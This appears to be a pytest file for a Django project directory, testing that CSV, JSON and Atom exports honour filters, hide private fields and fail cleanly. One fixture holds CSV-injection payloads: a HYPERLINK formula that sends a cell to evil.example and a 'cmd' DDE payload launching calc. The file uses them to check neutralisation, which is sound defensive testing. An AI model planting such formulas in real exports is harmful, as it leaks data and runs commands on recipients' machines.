"""Exports and feed: they honour the directory's filters and leak no private field."""

import csv
import gc
import io
import json
from datetime import date
from xml.etree import ElementTree

import pytest
from django.db import DatabaseError, connections
from django.urls import reverse

from projects.models import Event, InternalNote, RequestedBase
from projects.public import exports, safe_csv
from tests.factories import BaseFactory
from tests.factories import make_public_project as add

pytestmark = pytest.mark.django_db

PRIVATE = ["Méthode confidentielle", "Note secrète", "dpo@chu.example", "Financement privé"]


@pytest.fixture
def data(demo_catalog, reviewer):
    ai = add(
        "HDH-2023-0001", "Projet IA", themes=["ai"], bases=["esme"], submitted_on=date(2023, 1, 1)
    )
    ai.methodology, ai.funding, ai.data_processor = PRIVATE[0], PRIVATE[3], PRIVATE[2]
    ai.save()
    InternalNote.objects.create(project=ai, author=reviewer, body=PRIVATE[1])
    add("HDH-2023-0002", "Projet Covid", themes=["covid-19"], submitted_on=date(2023, 2, 1))
    add("", "Brouillon", status="draft", submitted_on=None)
    return ai


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_csv_export_honours_filters_and_has_public_columns_only(client, data):
    response = client.get(reverse("projects:export-csv"), {"theme": "ai"})

    rows = list(csv.DictReader(io.StringIO(body(response).lstrip("\ufeff"))))
    assert response["Content-Type"].startswith("text/csv")
    assert [row["reference"] for row in rows] == ["HDH-2023-0001"]
    assert rows[0]["themes"] == "ai" and rows[0]["bases"] == "ESME"
    assert set(rows[0]) == {
        "reference",
        "title",
        "summary",
        "sponsor",
        "sponsor_verified",
        "themes",
        "programme",
        "bases",
        "status",
        "kind",
        "submitted_on",
        "opinion_on",
        "authorised_on",
        "authorisation",
        "launched_on",
        "completed_on",
        "results",
        "results_due_on",
        "url",
        # The labels beside the codes (`test_export_labels`).
        "theme_names",
        "programme_name",
        "status_label",
        "kind_label",
        "results_label",
    }


def test_json_export_streams_every_public_project_and_no_private_field(client, data):
    text = body(client.get(reverse("projects:export-json")))

    records = json.loads(text)
    assert sorted(record["reference"] for record in records) == ["HDH-2023-0001", "HDH-2023-0002"]
    for secret in PRIVATE + ["Brouillon"]:
        assert secret not in text


def test_atom_feed_lists_submitted_and_authorised_projects(client, data):
    Event.objects.create(project=data, action="submitted", visibility=Event.Visibility.PUBLIC)
    Event.objects.create(project=data, action="assigned", visibility=Event.Visibility.STAFF)

    response = client.get(reverse("projects:feed"))

    content = response.content.decode()
    assert response["Content-Type"].startswith("application/atom+xml")
    assert "HDH-2023-0001" in content
    assert content.count("<entry>") == 1


# Defect 6: a cell a spreadsheet would read as a formula is neutralised (OWASP "CSV
# Injection"): a single quote before it, and every cell quoted.
FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
# Plain names: test ids with escapes cannot be selected again on a command line.
TRIGGER_NAMES = {
    "=": "equals",
    "+": "plus",
    "-": "minus",
    "@": "at",
    "\t": "tab",
    "\r": "carriage-return",
    "\n": "line-feed",
}


@pytest.fixture
def formula_project(demo_catalog):
    def make(trigger):
        base = BaseFactory(acronym=f"{trigger}BASE", slug="formula-base")
        project = add(
            "HDH-2024-0099",
            f'{trigger}HYPERLINK("http://evil.example/?"&A1;"clic")',
            summary=f"{trigger}1+2",
            sponsor=f"{trigger}cmd|' /C calc'!A0",
        )
        RequestedBase.objects.create(project=project, base=base)
        return project

    return make


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_NAMES.get)
def test_csv_cells_starting_with_a_formula_character_are_read_as_text(
    client, formula_project, trigger
):
    project = formula_project(trigger)

    text = body(client.get(reverse("projects:export-csv"))).lstrip("\ufeff")

    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["title"] == "'" + project.title
    assert row["summary"] == "'" + project.summary
    assert row["sponsor"] == "'" + project.sponsor.name
    assert row["bases"] == f"'{trigger}BASE"
    assert row["reference"] == "HDH-2024-0099"  # harmless cells are left as they are
    # Every cell quoted, so a separator or a quote inside a value never starts a new cell.
    assert text.startswith('"reference","title",')
    assert f'"HDH-2024-0099","\'{trigger}HYPERLINK(""http://evil.example/' in text


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_NAMES.get)
def test_json_export_keeps_the_exact_text(client, formula_project, trigger):
    project = formula_project(trigger)

    [record] = json.loads(body(client.get(reverse("projects:export-json"))))

    assert record["title"] == project.title
    assert record["summary"] == project.summary
    assert record["sponsor"] == project.sponsor.name
    assert record["bases"] == [f"{trigger}BASE"]


def test_the_csv_writer_neutralises_only_dangerous_cells():
    assert safe_csv.neutralise("=1+2") == "'=1+2"
    assert safe_csv.neutralise("-") == "'-"
    assert safe_csv.neutralise("") == ""
    assert safe_csv.neutralise("'=already") == "'=already"
    assert safe_csv.neutralise("a=1") == "a=1"
    assert safe_csv.neutralise(None) == ""
    assert safe_csv.writer().writerow(["=1", "x,y", 'say "hi"', 3]) == (
        '"\'=1","x,y","say ""hi""","3"\r\n'
    )


# Defect 7: an export that cannot be produced answers an error status, never a 200
# with a partial file.


@pytest.mark.parametrize("name", ["projects:export-csv", "projects:export-json"])
@pytest.mark.parametrize("params", [{"year": "abc"}, {"year": "1200"}, {"status": "nope"}])
def test_an_export_with_bad_parameters_answers_400(client, data, name, params):
    response = client.get(reverse(name), params)

    assert response.status_code == 400
    assert not response.streaming


@pytest.mark.parametrize("name", ["projects:export-csv", "projects:export-json"])
def test_an_export_with_a_nul_byte_answers_400_not_a_truncated_file(client, data, name):
    response = client.get(reverse(name) + "?theme=%00")

    assert response.status_code == 400


@pytest.fixture
def unreachable_database():
    """Call it to send the ORM's next queries to a real connection on a port where no
    PostgreSQL listens (as tests/portal/test_healthz.py does); put back afterwards."""
    default = connections["default"]

    def cut():
        connections["default"] = default.__class__(
            {**default.settings_dict, "PORT": "1"}, alias="default"
        )

    yield cut
    connections["default"] = default


@pytest.mark.parametrize("name", ["projects:export-csv", "projects:export-json"])
def test_an_export_answers_503_when_the_database_cannot_be_reached(
    client, data, unreachable_database, name
):
    unreachable_database()

    response = client.get(reverse(name))

    assert response.status_code == 503
    assert not response.streaming
    assert response["Retry-After"]


@pytest.mark.parametrize("name", ["projects:export-csv", "projects:export-json"])
def test_an_export_that_fails_mid_stream_does_not_end_as_a_complete_file(
    client, data, monkeypatch, unreachable_database, name
):
    add("HDH-2023-0003", "Projet 3", submitted_on=date(2023, 3, 1))
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)  # one project per database round trip
    response = client.get(reverse(name))
    chunks = iter(response.streaming_content)
    received = next(chunks) + next(chunks)  # the header (or "[") and the first project
    assert response.status_code == 200 and b"HDH-2023-0003" in received

    unreachable_database()

    # The error reaches the server, which aborts the response: no closing chunk, no "]".
    with pytest.raises(DatabaseError):
        list(chunks)
    # The abandoned server-side cursor is closed now, within this test's transaction,
    # rather than whenever the garbage collector reaches it.
    del chunks, response
    gc.collect()


# Defect 12: the summary is plain text, typed as such.


def test_atom_feed_summary_is_plain_text(client, data):
    data.summary = "Cohorte <b>nationale</b> & suivi"
    data.save()
    Event.objects.create(project=data, action="submitted", visibility=Event.Visibility.PUBLIC)

    response = client.get(reverse("projects:feed"))

    atom = "{http://www.w3.org/2005/Atom}"
    root = ElementTree.fromstring(response.content)
    [summary] = root.iter(f"{atom}summary")
    assert summary.get("type") == "text"
    assert summary.text == "Cohorte <b>nationale</b> & suivi"
    assert list(summary) == []  # no child element: the <b> is text, not markup
    [entry] = root.iter(f"{atom}entry")
    assert entry.find(f"{atom}id") is not None and entry.find(f"{atom}title") is not None
